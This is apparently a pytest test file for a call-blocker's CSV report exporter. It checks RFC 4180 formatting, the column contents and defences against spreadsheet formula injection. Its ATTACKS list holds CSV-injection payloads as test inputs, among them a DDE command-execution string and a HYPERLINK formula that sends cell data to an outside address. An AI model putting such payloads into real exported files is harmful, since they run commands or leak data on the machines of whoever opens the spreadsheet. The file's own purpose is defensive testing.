"""Promises about calls.csv: RFC 4180, every call, and no text of a stranger that a spreadsheet would run."""

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from fakes.entries import WITHHELD, local, screened
from hypothesis import example, given
from hypothesis import strategies as st

from blocker.core import record
from blocker.core.ended import Ended
from blocker.core.number import Unusable
from blocker.core.observed import NO_STATEMENT, SeenCall, Statement, seen_call, statement_of
from blocker.core.statement import Said
from blocker.core.verdict import Match, Reason
from blocker.renderers.calls_csv import COLUMNS, harmless, writer

AT = local("2026-11-17 09:12:33.123")
SIGNS = "=+-@\t\r\n＝＋－＠"
BACK = re.compile(rf"(^|[;,\"\t\r\n])([^\S\t\r\n]*)'(?=[{re.escape(SIGNS)}'])")
"""The way back, as the module's docstring and the specification tell it."""

ATTACKS = [
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\N{NO-BREAK SPACE}=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "x;=cmd|' /C calc'!A0;",
    "x,=1",
    'x"=1',
    'x","=1',
    "x;\t=1",
    "'=1",
    "''",
    '=HYPERLINK("http://192.0.2.1/?"&A1;"Click")',
]


def rows(*calls: SeenCall) -> list[dict[str, str]]:
    """The calls as a reader of CSV gets them."""
    file = io.StringIO(newline="")
    write = writer(file)
    for call in calls:
        write(call)
    return list(csv.DictReader(io.StringIO(file.getvalue(), newline=""), strict=True))


def cells_of(line: str, separator: str) -> list[str]:
    """How a careless spreadsheet splits a line: at every separator and quote."""
    return [part for quoted in line.split(separator) for part in quoted.split('"')]


@pytest.mark.parametrize("text", ATTACKS)
def test_no_text_of_a_stranger_begins_a_formula(text: str) -> None:
    """Not at the beginning of a cell, and not where a spreadsheet that separates otherwise begins one."""
    made = harmless(text)
    for separator in ",;\t":
        for cell in cells_of(made, separator):
            assert not cell.lstrip(" \N{NO-BREAK SPACE}").startswith(tuple(SIGNS)), cell
    assert BACK.sub(r"\1\2", made) == text


@given(st.text(st.sampled_from([*SIGNS, "'", '"', ";", ",", " ", "x", "\N{NO-BREAK SPACE}"])))
@example("\t=")
def test_every_text_can_be_had_back(text: str) -> None:
    """What is done to a text is undone by the one substitution that is documented."""
    assert BACK.sub(r"\1\2", harmless(text)) == text


@pytest.mark.parametrize("text", ["", "Anna", "Proximus", "a-b", "1+1", "O'Neil", "x = y", "tel:+3225550345", "é;x"])
def test_ordinary_texts_stay_as_they_are(text: str) -> None:
    """A sign in the middle of a word is no formula."""
    assert harmless(text) == text


@pytest.mark.parametrize("attack", ATTACKS)
def test_every_column_that_a_stranger_can_reach_is_harmless(attack: str) -> None:
    """Caller name, number, called number, line, match, company, and whoever marked it."""
    content = screened(
        AT,
        "c",
        number=Unusable(attack, "noise"),
        raw=attack,
        name=attack,
        called=attack,
        matches=(Match("x", attack, ""),),
    )
    content["line"] = attack
    said = Said(mark="marketing", said_company=attack, said_call_centre=attack).entry(AT, "c", attack)
    (row,) = rows(seen_call(1, content, None, statement_of(9, said)[1]))
    for column, cell in row.items():
        assert not cell.lstrip().startswith(tuple(SIGNS)), column
    assert "\n" not in "".join(row.values())


def test_numbers_are_tel_uris() -> None:
    """A bare +32… is a formula to a spreadsheet; RFC 3966 has a form that every program can read."""
    (row,) = rows(seen_call(1, screened(AT, "c", called="+3225550100"), None))
    assert row["presented_number"] == "tel:+3225550345"
    assert row["called_number"] == "tel:+3225550100"


def test_a_row_has_everything_that_is_known() -> None:
    """Column by column, of a call that was refused and then marked."""
    content = screened(AT, "c0ffee", reason=Reason.BLOCK_LIST, matches=(Match("block-list", "+3225550345", "list"),))
    outcome = record.outcome(AT, "c0ffee", acknowledged=True, after_ms=7)
    said = Statement(15, "marketing", "Proximus", "proximus", "Anna", "Horizon")
    (row,) = rows(seen_call(12, content, outcome, said))
    assert row == {
        "entry": "12",
        "call": "c0ffee",
        "standing": "unwanted",
        "utc": "2026-11-17T08:12:33.123Z",
        "local_time": "2026-11-17T09:12:33.123+01:00",
        "time_zone": "Europe/Brussels",
        "line": "landline",
        "called_number": "025550100",
        "presented": "e164",
        "presented_number": "tel:+3225550345",
        "caller_name": "",
        "decision": "block",
        "reason": "block-list",
        "match": "block-list +3225550345 (list)",
        "action": "reject",
        "happened": "refused",
        "acknowledged_after_ms": "7",
        "flagged": "no",
        "observe_only": "no",
        "mark": "marketing",
        "said_company": "Proximus",
        "company": "proximus",
        "marked_by": "Anna",
        "statement_entry": "15",
        "seen_by": "",
        "said_call_centre": "Horizon",
        "call_centre": "",
        "law_points_to": "",
        "law_cannot_tell": "",
        "ended": "",
        "seconds_talked": "",
        "seconds_in_all": "",
        "hung_up_by": "",
    }
    assert tuple(row) == COLUMNS


def test_what_isnt_known_is_empty() -> None:
    """A withheld number leaves no trace, an unmarked call names nobody."""
    content: Any = screened(AT, "c", number=WITHHELD)
    content["presented"]["raw"] = "+32475551234"
    (row,) = rows(seen_call(1, content, None, NO_STATEMENT))
    assert [row[name] for name in ("presented_number", "caller_name", "mark", "said_company", "statement_entry")] == [
        ""
    ] * 5


def test_how_a_call_ended_is_told() -> None:
    """As the phone system said it; what it didn't say is empty, and nought is nought."""
    call = seen_call(1, screened(AT, "c"), None)
    (row,) = rows(call._replace(ended=Ended("ANSWERED", 0, 41, "caller", silent=True)))
    assert [row[name] for name in COLUMNS[-4:]] == ["ANSWERED", "0", "41", "caller"]
    (row,) = rows(call._replace(ended=Ended("", None, None, "", silent=False)))
    assert [row[name] for name in COLUMNS[-4:]] == [""] * 4


def test_the_file_is_rfc_4180() -> None:
    """A header, CRLF after each row, quotes where a cell needs them and doubled within."""
    file = io.StringIO(newline="")
    writer(file)(seen_call(1, screened(AT, "c", name='a "b", c'), None))
    header, row, end = file.getvalue().split("\r\n")
    assert header == ",".join(COLUMNS)
    assert '"a ""b"", c"' in row
    assert end == ""


def test_the_specification_lists_the_columns_in_their_order() -> None:
    """Who reads the page finds the file as it is described."""
    page = (Path(__file__).parents[2] / "docs" / "spec" / "weekly-report.md").read_text(encoding="utf-8")
    listed = page.partition("Columns, in this order:")[2].partition("A stranger")[0]
    assert tuple(word for word in re.findall(r"`(\w+)`", listed) if word in COLUMNS) == COLUMNS


ANY = st.text(st.sampled_from([*SIGNS, '"', ",", ";", "x", "é", " "]), max_size=4)


@given(st.tuples(ANY, ANY, ANY, ANY, ANY, ANY), ANY, ANY, st.sampled_from([None, 0, 7]))
def test_the_text_is_the_one_that_pythons_csv_writes(
    own: tuple[str, ...], said: str, name: str, after_ms: int | None
) -> None:
    """However a row is put together: read back and written by the library, it has the same bytes."""
    call_id, utc, shown, zone, line, number = own
    call = seen_call(7, screened(AT, "00ff", name="Anna"), None)._replace(
        call=call_id, utc=utc, local=shown, zone=zone, line=line, number=number, name=name, after_ms=after_ms,
        statement=Statement(9, "marketing", said, name, number), match=said, seen_by=line,
    )  # fmt: skip
    file, again = io.StringIO(newline=""), io.StringIO(newline="")
    writer(file)(call)
    cells = list(csv.reader(io.StringIO(file.getvalue(), newline=""), strict=True))
    csv.writer(again, lineterminator="\r\n").writerows(cells)
    assert again.getvalue() == file.getvalue()
    assert (cells[1][1], cells[1][3], cells[1][16]) == (call_id, utc, "" if after_ms is None else str(after_ms))
